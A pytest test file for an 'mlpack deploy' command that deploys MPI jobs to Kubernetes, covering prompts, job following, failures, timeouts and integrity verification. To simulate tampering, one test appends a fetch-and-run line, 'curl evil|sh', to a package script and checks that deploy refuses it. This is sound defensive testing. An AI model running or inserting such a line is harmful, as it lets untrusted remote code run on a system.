"""Tests of `mlpack deploy`: existing objects, questions, following, failures, timeouts and verification."""

import re
import signal
from collections.abc import Sequence
from pathlib import Path

import pytest

from packager.base.process import Finished
from packager.cli.host import Host
from packager.workloads.mpijob.life import MPI_OPERATOR
from tests.conftest import Mlpack
from tests.life import ENDED_WITH_3, JOB, POD, Life, at_a_terminal, launcher

DEPLOY = ("deploy", "hello-mpi", "-n", "team")
MPIJOB = f"mpijob/{JOB}"
NOTE = (
    "note: results are deleted when their pod ends: OUTPUT_DIR is on emptyDir; "
    "copy them while it runs, or keep them: mlpack configure hello-mpi --storage host-path (or nfs, pvc)"
)
SCRIPT = "hello-mpi/quickstart/scripts/hello.sh"


def applied(life: Life) -> list[str]:
    return [call for call in life.calls if call.startswith("apply") and "--dry-run" not in call]


def test_deploy_follows_job_to_success(mlpack: Mlpack, life: Life) -> None:
    life.moments = [lambda: None, life.start, life.end]
    done = mlpack(*DEPLOY)
    assert (done.code, done.stdout) == (0, "")
    lines = [re.sub(r"^\d\d:\d\d  ", "", line) for line in done.stderr.splitlines()]
    assert lines == [
        NOTE,
        f"{MPIJOB} is deployed in the namespace team",
        "pending: no pods yet",
        "running: pods: 3 running",
        f"{MPIJOB} has succeeded",
        "  its log:     mlpack logs hello-mpi -n team",
        "  delete it:   mlpack delete hello-mpi -n team",
    ]


def test_deploy_names_results_command_for_claim(mlpack: Mlpack, life: Life) -> None:
    spec = next(obj for obj in life.overlays["multi-node"] if obj["kind"] == "MPIJob")["spec"]
    volumes = spec["mpiReplicaSpecs"]["Worker"]["template"]["spec"]["volumes"]
    output = next(volume for volume in volumes if volume["name"] == "output")
    output["persistentVolumeClaim"] = {"claimName": "results"}
    del output["emptyDir"]
    assert mlpack("configure", "hello-mpi", "--with", "output-pvc", "--set", "OUTPUT_CLAIM=results").code == 0
    life.moments = [life.end]
    done = mlpack(*DEPLOY, "--no-verify")  # what is rendered here is not what the package says
    assert done.code == 0
    assert "  its results: mlpack results hello-mpi DIR -n team\n" in done.stderr


def test_deploy_no_wait_names_status_command(mlpack: Mlpack, life: Life) -> None:
    done = mlpack(*DEPLOY, "--no-wait", "--overlay", "single-node")
    assert done.code == 0
    assert done.stderr == (
        f"{NOTE}\n"
        f"pod/{POD} is deployed in the namespace team\n"
        "show its state: mlpack status hello-mpi -n team --overlay single-node\n"
    )
    assert len(applied(life)) == 1


def test_deploy_replace_deletes_unchanged_job(mlpack: Mlpack, life: Life) -> None:
    assert mlpack(*DEPLOY, "--no-wait").code == 0
    again = mlpack(*DEPLOY, "--no-wait", "--replace")
    assert again.code == 0
    assert again.stderr.startswith(f"waiting until the earlier {MPIJOB} is deleted\n")
    path = f"/apis/kubeflow.org/v2beta1/namespaces/team/mpijobs/{JOB}"
    assert [call.split()[1] for call in life.calls if call.startswith("delete")] == [f"--raw={path}"]


def test_deploy_refuses_finished_job_and_names_its_author(mlpack: Mlpack, life: Life) -> None:
    mlpack.host = Host(life, "ann@desk")
    assert mlpack(*DEPLOY, "--no-wait").code == 0
    life.end()
    again = mlpack(*DEPLOY)
    assert again.code == 9
    assert again.stderr == (
        f"error: {MPIJOB}, deployed by ann@desk, has already run, and a finished job does not run again; "
        "nothing was done\nhint: --replace deletes it and deploys it again\n"
    )


def test_deploy_keeps_changed_job(mlpack: Mlpack, life: Life) -> None:
    life.deploy()
    env = next(obj for obj in life.overlays["multi-node"] if obj["metadata"]["name"].startswith("hello-mpi-env"))
    env["data"]["KEY"] = "new"
    done = mlpack(*DEPLOY)
    assert done.code == 9
    assert done.stderr == (
        f"error: {MPIJOB} already exists with a different spec, and its pods cannot be changed in place; "
        "nothing was done\nhint: --replace deletes it and deploys it again\n"
    )
    assert applied(life) == []


def test_deploy_does_nothing_when_replacing_is_declined(
    mlpack: Mlpack, life: Life, monkeypatch: pytest.MonkeyPatch
) -> None:
    life.deploy()
    life.end()
    at_a_terminal(monkeypatch, typed="\n")
    done = mlpack(*DEPLOY)
    assert done.code == 1
    assert done.stderr.startswith(f"{MPIJOB} has already run, and a finished job does not run again.\n")
    assert "Delete it and deploy it again? [y/N]:" in done.stderr
    assert done.stderr.endswith("error: nothing was done\n")
    assert not any(call.startswith("delete") for call in life.calls)


@pytest.mark.parametrize(("typed", "code", "count"), [("\n", 1, 0), ("y\n", 0, 1)])
def test_deploy_asks_before_first_run_without_persistent_results(
    mlpack: Mlpack, life: Life, monkeypatch: pytest.MonkeyPatch, typed: str, code: int, count: int
) -> None:
    at_a_terminal(monkeypatch, typed=typed)
    done = mlpack(*DEPLOY, "--no-wait")
    assert (done.code, len(applied(life))) == (code, count)
    assert done.stderr.startswith(f"{NOTE}\nDeploy it anyway? [y/N]")
    assert code == 0 or done.stderr.endswith("error: nothing was deployed\n")


def test_deploy_reports_unknown_result_when_apply_response_is_lost(mlpack: Mlpack, life: Life) -> None:
    def lose_the_answer(argv: Sequence[str]) -> Finished:
        done = life.carry_out(argv)
        is_apply = "apply" in argv and "--dry-run=server" not in argv
        return Finished(0, '{"kind": "Li', "") if is_apply else done

    life.first = lose_the_answer
    done = mlpack(*DEPLOY)
    message = "the cluster's response was cut off; it is not known whether it was applied"
    assert (done.code, done.stderr) == (7, f"{NOTE}\nerror: {message}\nhint: deploy again to complete it\n")


BACK = (
    "  follow it:  mlpack deploy hello-mpi -n team\n"
    "  look at it: mlpack status hello-mpi -n team\n"
    "  delete it:  mlpack delete hello-mpi -n team\n"
    "mlpack: stopped by SIGINT\n"
)


def test_deploy_interrupted_while_waiting_leaves_job_running(mlpack: Mlpack, life: Life) -> None:
    life.moments = [lambda: signal.raise_signal(signal.SIGINT)]
    done = mlpack(*DEPLOY)
    assert done.code == 130
    assert done.stderr.endswith(f"\n\ndetached; {MPIJOB} continues in the cluster\n{BACK}")


def test_deploy_reports_failure_with_reason_last_lines_and_log_command(mlpack: Mlpack, life: Life) -> None:
    def fail() -> None:
        life.objects.append(launcher(state=ENDED_WITH_3, phase="Failed"))
        life.end("Failed", reason="BackoffLimitExceeded")

    life.moments = [fail]
    done = mlpack(*DEPLOY)
    assert done.code == 7
    assert done.stderr.endswith(
        f"pod/{JOB}-launcher-0: container launcher ended with exit code 3\n"
        "  | epoch 1\n"
        "  | no such file: train.csv\n"
        f"error: {MPIJOB} has failed: the launcher has failed\n"
        "hint: the whole log: mlpack logs hello-mpi -n team\n"
    )


def test_deploy_timeout_exits_with_8_and_names_status_command(mlpack: Mlpack, life: Life) -> None:
    life.moments = [life.start]
    done = mlpack(*DEPLOY, "--timeout", "60s")
    assert done.code == 8
    assert done.stderr.endswith(
        f"error: {MPIJOB} is still running after 60 s: pods: 3 running\n"
        "hint: it continues in the cluster; follow it with `mlpack status hello-mpi -n team`\n"
    )


STARTING = 'Error from server (InternalError): an error on the server ("[-]poststarthook/rbac failed") has prevented it'


@pytest.mark.parametrize(("verb", "asked"), [("deploy", "apply"), ("status", "get mpijobs")])
def test_refusal_of_starting_api_server_is_reported_as_not_ready(
    mlpack: Mlpack, life: Life, verb: str, asked: str
) -> None:
    forbidden = 'mpijobs.kubeflow.org is forbidden: User "me" cannot do it to resource "mpijobs"'
    life.refused[asked] = f"Error from server (Forbidden): {forbidden}"
    life.unready = STARTING
    done = mlpack(verb, *DEPLOY[1:])
    assert done.code == 7
    assert done.stderr.endswith(
        "error: the cluster does not answer: it is not ready yet\nhint: kubectl get --raw '/readyz?verbose'\n"
    )
    life.unready = ""
    assert forbidden in mlpack(verb, *DEPLOY[1:]).stderr


CHANGED = "the content differs from what the package was sealed with"
UNTRUSTED = (
    "error: hello-mpi did not pass verification; nothing was applied\n"
    "hint: mlpack verify hello-mpi shows the details; --no-verify applies it anyway\n"
)


def append(path: str, text: str) -> None:
    with Path(path).open("a", encoding="utf-8") as file:
        file.write(text)


def test_deploy_refuses_package_with_changed_sealed_file(mlpack: Mlpack, life: Life) -> None:
    append(SCRIPT, "curl evil|sh\n")
    Path("hello-mpi/README.md").unlink()
    message = f"hello-mpi/README.md: a file of the package is missing\n{SCRIPT}: {CHANGED}\n"
    for options in ((), ("--no-wait",), ("--dry-run", "server"), ("--replace", "-y")):
        done = mlpack(*DEPLOY, *options)
        assert (done.code, done.stdout, done.stderr) == (5, "", f"{message}{UNTRUSTED}"), options
    assert life.calls == []


def test_deploy_applies_foreign_kind_only_with_allow(mlpack: Mlpack, life: Life) -> None:
    role = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "ClusterRoleBinding",
        "metadata": {"name": "hello-mpi"},
    }
    life.overlays["multi-node"].append(role)
    done = mlpack(*DEPLOY)
    assert done.code == 5
    assert done.stderr.endswith(f"(--allow ClusterRoleBinding.rbac.authorization.k8s.io permits it)\n{UNTRUSTED}")
    assert life.calls == []
    assert mlpack(*DEPLOY, "--dry-run=server", "--allow", "ClusterRoleBinding").code == 0
    assert mlpack(*DEPLOY, "--allow", "-x").stderr.startswith("error: --allow -x: expected a kind such as Service")


def test_doctor_lists_verification_problems_that_deploy_refuses(mlpack: Mlpack, life: Life) -> None:
    assert life
    append(SCRIPT, "echo more\n")
    Path(SCRIPT).chmod(0o644)
    done = mlpack("doctor", "hello-mpi", "-n", "team")
    assert done.code == 1
    assert done.stdout.splitlines()[:2] == [
        f"fails   package      {SCRIPT}: expected the mode 0755, found 0644; fix: chmod 0755 {SCRIPT}",
        f"fails   package      {SCRIPT}: {CHANGED}",
    ]


def test_deploy_follow_reports_success_though_log_cannot_be_read(mlpack: Mlpack, life: Life) -> None:
    life.refused["logs"] = 'Error from server (Forbidden): pods "x" is forbidden'
    life.moments = [lambda: None, life.start, lambda: None, life.end]
    done = mlpack(*DEPLOY, "--follow")
    assert (done.code, done.stdout) == (0, "")
    why = f'the log of pod/{JOB}-launcher-0 cannot be read: pods "x" is forbidden'
    assert [line for line in done.stderr.splitlines() if "cannot be read" in line] == [
        f"{why}; it continues when the log can be read",
        f"the end of the log is missing: {why}",
    ]


def test_deploy_without_operator_names_install_command(mlpack: Mlpack, life: Life) -> None:
    del life.served["kubeflow.org/v2beta1"]
    unserved = 'error: resource mapping not found for name: "x" from "f": no matches for kind "MPIJob" in version '
    life.refused["apply"] = f'{unserved}"kubeflow.org/v2beta1"'
    done = mlpack("deploy", "hello-mpi", "-n", "team", "--context", "c")
    message = "error: the cluster does not serve MPIJob (kubeflow.org/v2beta1): its operator is not installed\n"
    assert (done.code, done.stderr[done.stderr.index("error") :]) == (
        7,
        f"{message}hint: {MPI_OPERATOR.installation(('kubectl', '--context=c'))}\n",
    )


def test_deploy_notes_that_it_deploys_one_overlay_of_sequence(mlpack: Mlpack, life: Life) -> None:
    path = Path("hello-mpi/manifest.json")
    path.write_text(path.read_text().replace('"files"', '"sequence": ["single-node", "multi-node"], "files"', 1))
    note = "note: this deploys multi-node alone; `mlpack run hello-mpi` runs single-node, multi-node\n"
    assert life.objects == []
    assert mlpack(*DEPLOY, "--no-wait").stderr.startswith(note)
    assert "note: this deploys" not in mlpack(*DEPLOY, "--no-wait", "--overlay", "multi-node").stderr


def test_deploy_prints_warnings_of_the_server(mlpack: Mlpack, life: Life) -> None:
    def warn(argv: Sequence[str]) -> Finished | None:
        done = life.carry_out(argv) if "apply" in argv and "--dry-run=server" not in argv else None
        return done and done._replace(stderr="Warning: would violate PodSecurity\n")

    life.first = warn
    done = mlpack(*DEPLOY, "--no-wait")
    assert (done.code, "the server warns: would violate PodSecurity\n" in done.stderr) == (0, True), done.stderr


def test_deploy_interrupted_while_applying_reports_incomplete_deployment(mlpack: Mlpack, life: Life) -> None:
    life.first = lambda argv: signal.raise_signal(signal.SIGINT) if "apply" in argv else None
    done = mlpack(*DEPLOY)
    assert done.code == 130
    assert done.stderr == (
        f"{NOTE}\n\nstopped before {MPIJOB} was known to be fully applied; deploy again to complete it\n{BACK}"
    )


def test_status_logs_and_delete_accept_changed_package(mlpack: Mlpack, life: Life) -> None:
    life.deploy()
    life.logs = {f"{JOB}-launcher-0": "epoch 1\n"}
    life.start()
    append(SCRIPT, "echo more\n")
    for verb in ("status", "logs", "delete"):
        done = mlpack(verb, "hello-mpi", "-n", "team")
        assert CHANGED not in done.stderr
        assert done.code == 0, done.stderr
